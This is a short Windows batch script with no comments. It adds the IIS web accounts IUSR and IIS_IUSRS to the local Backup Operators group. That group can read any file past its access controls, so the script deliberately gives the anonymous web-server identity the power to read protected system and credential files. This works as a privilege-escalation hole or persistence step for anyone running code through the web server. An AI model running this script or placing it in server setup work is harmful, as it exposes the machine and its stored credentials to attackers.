@echo off
for %%A in (IUSR IIS_IUSRS) do (
  net localgroup "Backup Operators" %%A /add
)
